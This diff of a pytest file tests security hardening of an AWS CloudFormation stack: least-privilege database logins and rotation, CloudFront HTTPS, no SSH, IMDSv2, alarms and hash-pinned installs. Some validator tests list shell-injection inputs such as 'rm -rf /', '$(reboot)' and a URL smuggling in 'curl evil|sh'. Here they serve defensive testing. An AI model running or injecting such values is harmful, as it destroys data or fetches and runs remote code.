@@ -35,6 +35,9 @@ FUNCTIONS = {
 TMDB_FUNCTIONS = {"ExtractBulkFunction", "ExtractChangesFunction", "EnrichFunction"}
 DATABASE_FUNCTIONS = {"LoadFunction", "MigrateFunction"}
 DATABASE_SECRET = {"Fn::GetAtt": ["Database", "MasterUserSecret.SecretArn"]}
+LOGIN_SECRETS = {"load": "LoadDatabaseSecret", "api": "ApiDatabaseSecret", "ask": "AskDatabaseSecret"}
+# The database secret each function logs in with: the master's for the migrations alone, the loader's own login.
+FUNCTION_DATABASE_SECRET = {"LoadFunction": {"Ref": "LoadDatabaseSecret"}, "MigrateFunction": DATABASE_SECRET}
 
 
 class _AnyText:
@@ -62,15 +65,17 @@ ACCESS = {
         "TmdbSecret",
         "DataLakeBucket",
         "DataLakeBucket/state/changes-watermark.json",
+        "ChangesScheduleDeadLetterQueue",  # its on-failure destination
     },
     "EnrichFunction": {"IdsQueue", "TmdbSecret", f"DataLakeBucket/{MOVIES_PREFIX}*"},
     "LoadFunction": {
         "LoadQueue",
-        "Database.MasterUserSecret",
+        "LoadDatabaseSecret",
         f"DataLakeBucket/{MOVIES_PREFIX}*",
         f"DataLakeBucket/{QUARANTINE_PREFIX}*",
     },
-    "MigrateFunction": {"Database.MasterUserSecret"},
+    # The only reader of the master secret; it also makes and rotates the three logins.
+    "MigrateFunction": {"Database.MasterUserSecret", *LOGIN_SECRETS.values()},
 }
 
 
@@ -172,10 +177,14 @@ def test_a_message_in_any_dead_letter_queue_raises_an_alarm(template, resources)
     # Every queue either feeds a function or is a dead-letter queue.
     assert set(queues) == dead_letter_queues | {target(event["Queue"]) for _, event in sqs_sources(template)}
 
-    alarms = of_type(resources, "AWS::CloudWatch::Alarm")
+    alarms = [
+        a
+        for a in of_type(resources, "AWS::CloudWatch::Alarm").values()
+        if a["MetricName"] == "ApproximateNumberOfMessagesVisible"
+    ]
     watched = set()
-    for alarm in alarms.values():
-        assert (alarm["Namespace"], alarm["MetricName"]) == ("AWS/SQS", "ApproximateNumberOfMessagesVisible")
+    for alarm in alarms:
+        assert alarm["Namespace"] == "AWS/SQS"
         assert (alarm["ComparisonOperator"], alarm["Threshold"]) == ("GreaterThanThreshold", 0)
         assert alarm["AlarmActions"] == [{"Ref": "AlarmTopic"}]
         (dimension,) = alarm["Dimensions"]
@@ -453,7 +462,7 @@ def test_only_the_functions_that_need_a_secret_are_told_where_it_is(template, lo
     else:
         assert "TMDB_SECRET_ARN" not in variables
     database_variables = {
-        "DATABASE_SECRET_ARN": DATABASE_SECRET,
+        "DATABASE_SECRET_ARN": FUNCTION_DATABASE_SECRET.get(logical_id),
         "DATABASE_HOST": {"Fn::GetAtt": ["Database", "Endpoint.Address"]},
         "DATABASE_PORT": {"Fn::GetAtt": ["Database", "Endpoint.Port"]},
         "DATABASE_NAME": {"Ref": "DatabaseName"},
@@ -678,47 +687,121 @@ def test_the_api_instance_runs_the_latest_amazon_linux_2023_in_a_public_subnet(t
     routes = [r for r in of_type(resources, "AWS::EC2::Route").values() if r["RouteTableId"] == {"Ref": table}]
     assert [target(r["GatewayId"]) for r in routes] == ["InternetGateway"]
     assert resources["ApiInstance"]["DependsOn"] == "PublicNetworkReady"
-    # A fixed public address, which the outputs name.
+    # A fixed public address: CloudFront's origin is named after it.
     assert target(resources["ApiAddress"]["Properties"]["InstanceId"]) == "ApiInstance"
-    assert template["Outputs"]["ApiUrl"]["Value"] == {"Fn::Sub": "http://${ApiAddress}"}
-    assert template["Outputs"]["ApiDocsUrl"]["Value"] == {"Fn::Sub": "http://${ApiAddress}/docs"}
 
 
-def test_the_api_is_open_on_80_and_443_only_and_to_ssh_only_from_a_given_range(template, resources):
-    group = resources["ApiSecurityGroup"]["Properties"]
-    inline = {(r["IpProtocol"], r["FromPort"], r["ToPort"]) for r in group["SecurityGroupIngress"]}
-    assert inline == {("tcp", 80, 80), ("tcp", 443, 443)}
-    standalone = {
-        name: r
-        for name, r in of_type(resources, "AWS::EC2::SecurityGroupIngress").items()
-        if target(r["GroupId"]) == "ApiSecurityGroup"
+# ---- HTTPS -----------------------------------------------------------------------------------------------------
+
+
+def test_the_api_is_served_over_https_only_by_cloudfront_with_hsts(template, resources):
+    config = resources["ApiDistribution"]["Properties"]["DistributionConfig"]
+    behavior = config["DefaultCacheBehavior"]
+    # GIVEN a default deployment (no domain): CloudFront's own certificate; with ApiDomainName, its ACM certificate
+    assert config["ViewerCertificate"]["Fn::If"][0] == "HasApiDomain"
+    custom, default = config["ViewerCertificate"]["Fn::If"][1:]
+    assert default == {"CloudFrontDefaultCertificate": True}
+    assert custom["AcmCertificateArn"] == {"Ref": "ApiCertificateArn"}
+    assert (custom["SslSupportMethod"], custom["MinimumProtocolVersion"]) == ("sni-only", "TLSv1.2_2021")
+    assert template["Conditions"]["HasApiDomain"] == {"Fn::Not": [{"Fn::Equals": [{"Ref": "ApiDomainName"}, ""]}]}
+    assert template["Parameters"]["ApiDomainName"]["Default"] == ""
+    # AND a domain comes with its certificate, and a certificate with its domain
+    rules = template["Rules"]
+    assert rules["ACustomDomainNeedsItsCertificate"]["Assertions"][0]["Assert"] == {
+        "Fn::Not": [{"Fn::Equals": [{"Ref": "ApiCertificateArn"}, ""]}]
     }
-    assert list(standalone) == ["ApiSshIngress"]
-    ssh = standalone["ApiSshIngress"]
-    assert (ssh["FromPort"], ssh["ToPort"], ssh["CidrIp"]) == (22, 22, {"Ref": "ApiSshCidr"})
-    # Only when a range is given: the parameter defaults to empty, and the condition is "not empty".
-    assert resources["ApiSshIngress"]["Condition"] == "HasApiSshCidr"
-    assert template["Parameters"]["ApiSshCidr"]["Default"] == ""
-    assert template["Conditions"]["HasApiSshCidr"] == {"Fn::Not": [{"Fn::Equals": [{"Ref": "ApiSshCidr"}, ""]}]}
+    assert rules["ACertificateNeedsItsDomain"]["Assertions"][0]["Assert"] == {
+        "Fn::Not": [{"Fn::Equals": [{"Ref": "ApiDomainName"}, ""]}]
+    }
+    # THEN plain HTTP is redirected, every method and header but Host reach the API, and nothing is cached
+    assert behavior["ViewerProtocolPolicy"] == "redirect-to-https"
+    assert "POST" in behavior["AllowedMethods"]
+    assert behavior["CachePolicyId"] == "4135ea2d-6df8-44a3-9df3-4b5a84be39ad"  # Managed-CachingDisabled
+    assert behavior["OriginRequestPolicyId"] == "b689b0a8-53d0-40ab-baf2-68738e2966ac"  # AllViewerExceptHostHeader
+    # AND every answer carries HSTS (two years, subdomains) and the hardening headers
+    headers = resources[target(behavior["ResponseHeadersPolicyId"])]["Properties"]["ResponseHeadersPolicyConfig"]
+    hsts = headers["SecurityHeadersConfig"]["StrictTransportSecurity"]
+    assert hsts["AccessControlMaxAgeSec"] >= 31536000 and hsts["IncludeSubdomains"] and hsts["Override"]
+    assert headers["SecurityHeadersConfig"]["ContentTypeOptions"]["Override"] is True
+    # AND the outputs are https:// URLs, on the custom domain when there is one
+    for output, path in (("ApiUrl", ""), ("ApiDocsUrl", "/docs")):
+        condition, with_domain, without = template["Outputs"][output]["Value"]["Fn::If"]
+        assert condition == "HasApiDomain"
+        assert with_domain == {"Fn::Sub": f"https://${{ApiDomainName}}{path}"}
+        assert without == {"Fn::Sub": f"https://${{ApiDistribution.DomainName}}{path}"}
+    assert not any("http://" in json.dumps(output) for output in template["Outputs"].values())
 
 
-def test_the_api_role_reads_the_models_its_secrets_the_pipeline_state_and_writes_its_logs_only(resources):
+def test_the_instance_answers_cloudfront_only_through_its_secret_header(resources, api_user_data):
+    config = resources["ApiDistribution"]["Properties"]["DistributionConfig"]
+    (origin,) = config["Origins"]
+    (header,) = origin["OriginCustomHeaders"]
+    assert header["HeaderName"] == "X-CineLake-Origin"
+    assert header["HeaderValue"] == {"Fn::Sub": "{{resolve:secretsmanager:${OriginVerifySecret}:SecretString:value}}"}
+    assert origin["CustomOriginConfig"]["OriginProtocolPolicy"] == "http-only"
+    # nginx answers 403 to anything without the header's value, which it reads from the same secret
+    assert "'${OriginVerifySecret}'" in api_user_data
+    assert "if ($cinelake_from_cloudfront = 0) {" in api_user_data and "return 403;" in api_user_data
+    assert "map $http_x_cinelake_origin $cinelake_from_cloudfront" in api_user_data
+    assert 'proxy_set_header X-CineLake-Origin "";' in api_user_data  # the secret never reaches the app
+    assert resources["OriginVerifySecret"]["Properties"]["GenerateSecretString"]["PasswordLength"] >= 32
+
+
+def test_the_instance_is_open_to_cloudfronts_origin_facing_addresses_only_and_never_to_ssh(template, resources):
+    group = resources["ApiSecurityGroup"]["Properties"]
+    (ingress,) = group["SecurityGroupIngress"]
+    # GIVEN the instance's only inbound rule: port 80 from CloudFront's origin-facing managed prefix list
+    assert (ingress["IpProtocol"], ingress["FromPort"], ingress["ToPort"]) == ("tcp", 80, 80)
+    assert ingress["SourcePrefixListId"] == {"Ref": "CloudFrontOriginPrefixListId"}
+    assert "CidrIp" not in ingress
+    assert re.fullmatch(template["Parameters"]["CloudFrontOriginPrefixListId"]["AllowedPattern"], "pl-3b927c52")
+    # AND no other rule opens it: no 443, no SSH from anywhere
+    assert not [
+        r
+        for r in of_type(resources, "AWS::EC2::SecurityGroupIngress").values()
+        if target(r["GroupId"]) == "ApiSecurityGroup"
+    ]
+    assert not any("Ssh" in name for name in template["Parameters"])
+
+
+def test_operators_reach_the_instance_through_session_manager(template, resources):
+    role = resources["ApiRole"]["Properties"]
+    assert role["ManagedPolicyArns"] == [
+        {"Fn::Sub": "arn:${AWS::Partition}:iam::aws:policy/AmazonSSMManagedInstanceCore"}
+    ]
+    assert template["Outputs"]["ApiInstanceId"]["Value"] == {"Ref": "ApiInstance"}
+
+
+def test_the_launch_settings_require_imdsv2_on_one_hop(resources):
+    instance = resources["ApiInstance"]["Properties"]
+    assert instance["LaunchTemplate"] == {
+        "LaunchTemplateId": {"Ref": "ApiLaunchTemplate"},
+        "Version": {"Fn::GetAtt": ["ApiLaunchTemplate", "LatestVersionNumber"]},
+    }
+    options = resources["ApiLaunchTemplate"]["Properties"]["LaunchTemplateData"]["MetadataOptions"]
+    assert options["HttpTokens"] == "required"
+    assert options["HttpPutResponseHopLimit"] == 1
+
+
+def test_the_api_role_reads_the_models_its_own_secrets_the_pipeline_state_and_writes_its_logs_only(resources):
     role = resources["ApiRole"]["Properties"]
     assert role["AssumeRolePolicyDocument"]["Statement"][0]["Principal"] == {"Service": "ec2.amazonaws.com"}
-    assert "ManagedPolicyArns" not in role
     assert resources["ApiInstanceProfile"]["Properties"]["Roles"] == [{"Ref": "ApiRole"}]
     granted = set()
     for statement in statements(role):
         assert statement["Effect"] == "Allow"
         assert not any(action.endswith("*") for action in as_list(statement["Action"]))
         granted |= {access_of(resource) for resource in as_list(statement["Resource"])}
+    # Its own two database logins: never the master's secret
     assert granted == {
         "DataLakeBucket/models/*",
         "DataLakeBucket/releases/*",
         "DataLakeBucket/state/*",
         "DataLakeBucket",
         "ApiKeysSecret",
-        "Database.MasterUserSecret",
+        "ApiDatabaseSecret",
+        "AskDatabaseSecret",
+        "OriginVerifySecret",
         "ApiLogGroup",
         "IdsDeadLetterQueue",
         "LoadDeadLetterQueue",
@@ -739,19 +822,216 @@ def test_the_api_keys_secret_is_created_with_a_generated_key(resources):
     assert "SecretString" not in resources["ApiKeysSecret"]["Properties"]
 
 
-def test_the_user_data_installs_the_app_and_serves_it_under_systemd_behind_nginx(api_user_data):
-    # It runs at every boot, so an AppVersion change (a stop and start) installs the new version.
+# ---- Database logins -------------------------------------------------------------------------------------------
+
+
+def test_each_job_has_a_login_secret_of_its_own_rotated_by_the_migrate_function(template, resources):
+    usernames = set()
+    for job, logical_id in LOGIN_SECRETS.items():
+        generated = resources[logical_id]["Properties"]["GenerateSecretString"]
+        template_fields = json.loads(generated["SecretStringTemplate"])
+        usernames.add(template_fields["username"])
+        assert template_fields["username"] == f"cinelake_{job}"
+        assert generated["GenerateStringKey"] == "password" and generated["PasswordLength"] >= 32
+        # Rotated every 30 days by the migrate function, never before the migrations made the login
+        (rotation,) = [
+            r
+            for r in resources.values()
+            if r["Type"] == "AWS::SecretsManager::RotationSchedule"
+            and r["Properties"]["SecretId"] == {"Ref": logical_id}
+        ]
+        assert rotation["Properties"]["RotationLambdaARN"] == {"Fn::GetAtt": ["MigrateFunction", "Arn"]}
+        assert rotation["Properties"]["RotateImmediatelyOnUpdate"] is False
+        assert "DatabaseMigrations" in rotation["DependsOn"]
+        assert rotation["Properties"]["RotationRules"]["ScheduleExpression"] == "rate(30 days)"
+    assert template["Parameters"]["DatabaseMasterUsername"]["Default"] not in usernames
+    # The migrate function learns every login's secret, and Secrets Manager may invoke it
+    variables = function(template, "MigrateFunction")["Environment"]["Variables"]
+    arns = variables["DATABASE_LOGIN_SECRET_ARNS"]["Fn::Sub"]
+    assert json.loads(re.sub(r"\$\{(\w+)\}", r"\1", arns)) == LOGIN_SECRETS
+    permission = resources["MigrateRotationPermission"]["Properties"]
+    assert (permission["Principal"], permission["Action"]) == ("secretsmanager.amazonaws.com", "lambda:InvokeFunction")
+    # AND it alone may change them
+    role = resources["MigrateRole"]["Properties"]
+    (rotating,) = [s for s in statements(role) if "secretsmanager:PutSecretValue" in as_list(s["Action"])]
+    assert {target(r) for r in rotating["Resource"]} == set(LOGIN_SECRETS.values())
+
+
+def test_only_the_migrate_function_may_read_the_master_secret(resources):
+    readers = set()
+    for name, role in of_type(resources, "AWS::IAM::Role").items():
+        for statement in statements(role):
+            if DATABASE_SECRET in as_list(statement["Resource"]):
+                readers.add(name)
+    assert readers == {"MigrateRole"}
+
+
+def test_database_connections_verify_the_rds_certificate(template, resources, api_user_data):
+    for logical_id in DATABASE_FUNCTIONS:
+        variables = function(template, logical_id)["Environment"]["Variables"]
+        assert variables["DATABASE_CA_BUNDLE"] == "/opt/rds-ca-bundle.pem"  # the layer's build puts it there
+        assert variables["DATABASE_CA_BUNDLE_URL"].startswith("https://truststore.pki.rds.amazonaws.com/")
+    makefile = (REPO_ROOT / "Makefile").read_text(encoding="utf-8")
+    assert '-o "$(ARTIFACTS_DIR)/rds-ca-bundle.pem" $(RDS_CA_BUNDLE_URL)' in makefile
+    assert "DATABASE_CA_BUNDLE=/etc/cinelake/rds-ca-bundle.pem" in api_user_data
+    assert "truststore.pki.rds.amazonaws.com/global/global-bundle.pem" in api_user_data
+    # And the server refuses unencrypted connections, and bounds temporary files
+    parameters = resources["DatabaseParameterGroup"]["Properties"]["Parameters"]
+    assert parameters["rds.force_ssl"] == "1" and int(parameters["temp_file_limit"]) > 0
+
+
+# ---- Alarms ------------------------------------------------------------------------------------------------------
+
+
+def alarms_on(resources, namespace: str, metric: str) -> dict[str, dict]:
+    """Each alarm on the metric, by what its one dimension names."""
+    found = {}
+    for alarm in of_type(resources, "AWS::CloudWatch::Alarm").values():
+        if (alarm["Namespace"], alarm["MetricName"]) == (namespace, metric):
+            (dimension,) = alarm["Dimensions"]
+            found[target(dimension["Value"])] = alarm
+    return found
+
+
+def test_every_alarm_tells_the_alarm_topic(resources):
+    for name, alarm in of_type(resources, "AWS::CloudWatch::Alarm").items():
+        assert {"Ref": "AlarmTopic"} in alarm["AlarmActions"], name
+
+
+def test_the_oldest_message_of_each_queue_that_feeds_a_function_is_watched(template, resources):
+    ages = alarms_on(resources, "AWS/SQS", "ApproximateAgeOfOldestMessage")
+    assert set(ages) == {target(event["Queue"]) for _, event in sqs_sources(template)}
+    queues = of_type(resources, "AWS::SQS::Queue")
+    for queue_id, alarm in ages.items():
+        assert alarm["ComparisonOperator"] == "GreaterThanThreshold"
+        # before the queue's retention would drop the message
+        assert 0 < alarm["Threshold"] < queues[queue_id]["MessageRetentionPeriod"]
+
+
+def test_every_function_alarms_on_errors_and_throttles(resources):
+    for metric in ("Errors", "Throttles"):
+        watched = alarms_on(resources, "AWS/Lambda", metric)
+        assert set(watched) == set(FUNCTIONS), metric
+        for alarm in watched.values():
+            assert (alarm["Statistic"], alarm["ComparisonOperator"], alarm["Threshold"]) == (
+                "Sum",
+                "GreaterThanThreshold",
+                0,
+            )
+
+
+def test_the_database_alarms_on_free_storage_and_cpu_credits(resources):
+    storage = alarms_on(resources, "AWS/RDS", "FreeStorageSpace")["Database"]
+    assert storage["ComparisonOperator"] == "LessThanThreshold" and storage["Threshold"] >= 1024**3
+    credits = alarms_on(resources, "AWS/RDS", "CPUCreditBalance")["Database"]
+    assert credits["ComparisonOperator"] == "LessThanThreshold" and credits["Threshold"] > 0
+
+
+def test_the_instance_recovers_on_a_failed_status_check(resources):
+    system = alarms_on(resources, "AWS/EC2", "StatusCheckFailed_System")["ApiInstance"]
+    assert {"Fn::Sub": "arn:${AWS::Partition}:automate:${AWS::Region}:ec2:recover"} in system["AlarmActions"]
+    guest = alarms_on(resources, "AWS/EC2", "StatusCheckFailed_Instance")["ApiInstance"]
+    assert {"Fn::Sub": "arn:${AWS::Partition}:automate:${AWS::Region}:ec2:reboot"} in guest["AlarmActions"]
+
+
+def test_a_failed_daily_run_lands_in_a_queue_that_alarms(template, resources):
+    config = resources["ExtractChangesFunction"]["Properties"]["EventInvokeConfig"]
+    destination = config["DestinationConfig"]["OnFailure"]
+    assert destination["Type"] == "SQS"
+    assert target(destination["Destination"]) == "ChangesScheduleDeadLetterQueue"
+    assert "ChangesScheduleDeadLetterQueue" in alarms_on(resources, "AWS/SQS", "ApproximateNumberOfMessagesVisible")
+
+
+# ---- Installing a release on the instance ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("version", ["v1.0.0", "main", "release/2026-12", "3f5a1d6c0b9e4a7d8c2f1e0a9b8c7d6e5f4a3b2c"])
+def test_app_version_takes_tags_commits_and_branches(template, version):
+    assert re.fullmatch(template["Parameters"]["AppVersion"]["AllowedPattern"], version)
+
+
+@pytest.mark.parametrize("version", ["", "v1'; rm -rf /", "$(reboot)", "a b", "-x", "v1\nrm", "`id`"])
+def test_app_version_refuses_anything_a_shell_would_read(template, version):
+    assert not re.fullmatch(template["Parameters"]["AppVersion"]["AllowedPattern"], version)
+
+
+@pytest.mark.parametrize(
+    ("url", "allowed"),
+    [
+        ("https://github.com/example-org/cinelake.git", True),
+        ("s3://cinelake-dev-data-lake/releases/cinelake.tar.gz", True),
+        ("https://github.com/x/y.git'; curl evil|sh; '", False),
+        ("s3://bucket/elsewhere/cinelake.tar.gz", False),
+        ("http://github.com/x/y.git", False),
+    ],
+)
+def test_app_source_url_is_a_plain_https_git_url_or_a_release_tarball(template, url, allowed):
+    assert bool(re.fullmatch(template["Parameters"]["AppSourceUrl"]["AllowedPattern"], url)) is allowed
+
+
+def test_the_user_data_installs_a_release_once_from_its_hash_pinned_lock(api_user_data):
+    # It runs at every boot, but installs only when it changed (its own hash), so a reboot needs no registry
     assert "[scripts-user, always]" in api_user_data
-    assert "for version in 3.13 3.12 3.11" in api_user_data
-    assert "${AppSourceUrl}" in api_user_data and "${AppVersion}" in api_user_data
-    # The environment the API reads: the database by its secret, the models, the API keys' secret.
+    assert 'WANT=$(sha256sum "$0"' in api_user_data
+    assert 'if [ "$(cat "$APP/installed" 2>/dev/null || true)" = "$WANT" ]; then' in api_user_data
+    install_step = api_user_data.index('if [ "$(cat "$APP/installed"')
+    assert api_user_data.index("dnf install") > install_step
+    # ... and marks it installed only once it runs
+    assert api_user_data.index('echo "$WANT" > "$APP/installed"') > api_user_data.index(
+        "systemctl restart cinelake-api.service"
+    )
+    # The release: a commit or tag fetched exactly, or a tarball
+    assert "fetch --depth 1 '${AppSourceUrl}' '${AppVersion}'" in api_user_data
+    assert "checkout -q --detach FETCH_HEAD" in api_user_data
+    # Exactly the locked versions, hash-checked; then the project offline
+    assert "--require-hashes --no-deps" in api_user_data
+    assert '-r "$RELEASE/app/requirements/api.lock"' in api_user_data
+    assert '--no-deps --no-index --no-build-isolation "$RELEASE/app"' in api_user_data
+    assert "pip install --quiet torch" not in api_user_data and "[api,model]" not in api_user_data
+    # A reboot starts what is installed: the service is enabled and runs from the current release
+    assert "systemctl enable cinelake-api.service" in api_user_data
+    assert "WantedBy=multi-user.target" in api_user_data
+    assert 'ln -sfn "$RELEASE" "$APP/current"' in api_user_data
+
+
+def test_the_lock_pins_every_dependency_with_hashes():
+    lock = (REPO_ROOT / "requirements" / "api.lock").read_text(encoding="utf-8")
+    pinned = dict(re.findall(r"^([A-Za-z0-9._-]+)==(\S+) \\$", lock, flags=re.MULTILINE))
+    # Every requirement is pinned with at least one hash
+    requirements = re.findall(r"^[A-Za-z0-9._-]+[=<>!~]", lock, flags=re.MULTILINE)
+    assert len(requirements) == len(pinned) > 50
+    blocks = re.split(r"^(?=[A-Za-z0-9._-]+==)", lock, flags=re.MULTILINE)[1:]
+    assert all("--hash=sha256:" in block for block in blocks)
+    # It covers what the instance runs: the core, the api and model extras, and setuptools to build offline
+    pyproject = tomllib.loads((REPO_ROOT / "pyproject.toml").read_text(encoding="utf-8"))
+    project = pyproject["project"]
+    wanted = (
+        project["dependencies"] + project["optional-dependencies"]["api"] + project["optional-dependencies"]["model"]
+    )
+    names = {re.split(r"[<>=!~\[; ]", requirement, maxsplit=1)[0].lower().replace("_", "-") for requirement in wanted}
+    locked = {name.lower().replace("_", "-") for name in pinned}
+    assert names - locked == set()
+    assert "setuptools" in locked
+    # torch is the CPU build of the version `make install` uses
+    makefile = (REPO_ROOT / "Makefile").read_text(encoding="utf-8")
+    torch_version = re.search(r"^TORCH_VERSION \?= (\S+)$", makefile, flags=re.MULTILINE)[1]
+    assert pinned["torch"] == f"{torch_version}+cpu"
+
+
+def test_the_user_data_serves_the_api_under_systemd_behind_nginx_with_its_own_logins(api_user_data):
+    # The environment the API reads: its two logins by their secrets, the CA bundle, the models, the API keys' secret.
     for line in (
-        "DATABASE_SECRET_ARN=${Database.MasterUserSecret.SecretArn}",
+        "DATABASE_SECRET_ARN=${ApiDatabaseSecret}",
+        "ASK_DATABASE_SECRET_ARN=${AskDatabaseSecret}",
         "DATABASE_HOST=${Database.Endpoint.Address}",
         "MODELS_DIR=/var/lib/cinelake/models",
         "API_KEYS_SECRET_ARN=${ApiKeysSecret}",
+        "API_RATE_LIMIT_STORE=/run/cinelake/rate-limits.sqlite",
     ):
         assert line in api_user_data
+    assert "MasterUserSecret" not in api_user_data
+    # The workers share their rate limits in a tmpfs systemd makes for the service
+    assert "RuntimeDirectory=cinelake" in api_user_data
     # Several uvicorn workers on loopback under systemd, restarted when they fail ...
     assert "cinelake serve --host 127.0.0.1 --port 8000 --workers" in api_user_data
     assert "Environment=API_WORKERS=${ApiWorkers}" in api_user_data
